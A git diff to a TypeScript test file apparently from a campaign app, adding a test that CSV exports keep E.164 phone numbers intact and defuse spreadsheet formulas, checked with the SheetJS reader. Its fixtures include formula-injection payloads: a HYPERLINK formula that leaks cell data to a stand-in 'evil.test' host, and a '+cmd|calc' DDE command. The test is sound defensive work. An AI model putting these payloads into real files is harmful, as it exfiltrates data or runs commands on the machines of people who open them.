@@ -1,8 +1,10 @@
 // People, saved lists, duplicates and merges, CSV import and export, and the audit log, through the
 // API as each role: households by address, one holder per e-mail and phone, merges that keep the
 // merged records and their history, imports matched to known people (dry run, per-row errors), exports
-// with each role's fields, and every write in the audit log with who made it and the before and after.
+// with each role's fields (phone numbers as they are, formulas defused, read by SheetJS as a
+// spreadsheet would), and every write in the audit log with who made it and the before and after.
 import t from 'tap'
+import XLSX from 'xlsx'
 import { ServerFunctionError } from '../../../../plugins/campaign/client.js'
 import type { Caller } from '../../../../plugins/campaign/functions.js'
 import { Elections } from '../../../../plugins/campaign/modules/fundraising/elections.js'
@@ -204,6 +206,55 @@ t.test('people through the API', async t => {
     t.match(await call('import-csv', { kind: 'people', csv: big }), { created: 12_000, failed: 0 })
     t.equal(await statusOf(call('save-person', { name: 'x'.repeat(10), tags: [big.slice(0, 300_000)] })), 413, 'other functions keep the usual limit')
   })
+})
+
+t.test('exports write E.164 phone numbers as they are and defuse formulas: import, export, import again, and a spreadsheet reader', async t => {
+  const { baseUrl, call, staff } = await campaignApp(t)
+  const note = '=HYPERLINK("http://evil.test/?leak="&A2,"click")'
+  const csv = [
+    'name,email,phone,note',
+    `Ana Diaz,ana@x.test,+1 (555) 123-4567,"${note.replaceAll('"', '""')}"`,
+    'Ben Okafor,ben@x.test,0044 20 7946 0958,-2+3',
+    'Cy Short,cy@x.test,+123456,@SUM(1+1)',
+    '+cmd|calc,dee@x.test,5550100,plain'
+  ].join('\n')
+  t.match(await call('import-csv', { kind: 'people', csv, dry_run: false }), { created: 4, failed: 0 })
+  type Row = Pick<Person, 'name' | 'email' | 'phone' | 'custom'>
+  const stored = async (): Promise<Row[]> => (await call<{ people: Person[] }>('list-people', {})).people.map(({ name, email, phone, custom }) => ({ name, email, phone, custom }))
+  const before = await stored()
+  t.same(before.map(p => p.phone), ['+5550100', '+15551234567', '+442079460958', '+123456'], 'stored as + and digits')
+
+  const exported = await (await fetch(new URL('/export/people', baseUrl), { headers: { cookie: staff } })).text()
+  t.match(exported, /,\+15551234567,/, 'an E.164 number is written as it is')
+  t.match(exported, /,\+442079460958,/)
+  t.match(exported, /,\+5550100,/)
+  t.notMatch(exported, /'\+1555|'\+44/, 'no apostrophe before an E.164 number')
+  t.match(exported, /,'\+123456,/, 'six digits is not E.164: defused like any cell starting with +')
+  t.match(exported, /"'=HYPERLINK\(/, 'a formula is defused')
+  t.match(exported, /,'-2\+3,/)
+  t.match(exported, /,'@SUM\(1\+1\),/)
+  t.match(exported, /,'\+cmd\|calc,/)
+
+  const header = exported.split('\n')[0].trim().split(',')
+  const mapping = Object.fromEntries(header.map(column => [column, ['name', 'email', 'phone'].includes(column) || column.startsWith('custom:') ? column : null]))
+  t.match(await call('import-csv', { kind: 'people', csv: exported, mapping, dry_run: false }), { created: 0, updated: 4, failed: 0 })
+  t.same(await stored(), before, 'imported again: every phone, name and cell as it was')
+
+  // A spreadsheet reader on the file: SheetJS guessing types as a spreadsheet opening a CSV does, and reading every cell as text.
+  const guessed = XLSX.read(exported, { type: 'string' })
+  const sheet = guessed.Sheets[guessed.SheetNames[0]]
+  const column = (name: string): string => XLSX.utils.encode_col(header.indexOf(name))
+  const rowOf = (who: string): number => (XLSX.utils.sheet_to_json<Record<string, unknown>>(sheet, { raw: false }).findIndex(r => r.name === who || r.name === `'${who}`)) + 2
+  const cell = (who: string, name: string): XLSX.CellObject => sheet[`${column(name)}${rowOf(who)}`] as XLSX.CellObject
+  const formulas = Object.entries(sheet).filter(([address, c]) => !address.startsWith('!') && (c as XLSX.CellObject).f !== undefined)
+  t.same(formulas, [], 'no cell of the export reads as a formula')
+  t.match(cell('Ana Diaz', 'custom:note'), { t: 's', v: `'${note}` }, 'the HYPERLINK payload reads as text')
+  t.match(cell('Ana Diaz', 'phone'), { t: 'n', v: 15551234567, w: '+15551234567' }, 'guessing types, the phone is a number shown as +15551234567, not a formula')
+  const asText = XLSX.read(exported, { type: 'string', raw: true })
+  const textSheet = asText.Sheets[asText.SheetNames[0]]
+  for (const [who, phone] of [['Ana Diaz', '+15551234567'], ['Ben Okafor', '+442079460958'], ['+cmd|calc', '+5550100']]) {
+    t.match(textSheet[`${column('phone')}${rowOf(who)}`], { t: 's', v: phone }, `read as text, ${who}'s phone is ${phone} exactly`)
+  }
 })
 
 t.test('a roster entry or a donation and its person are written together: a failed person write leaves neither', async t => {
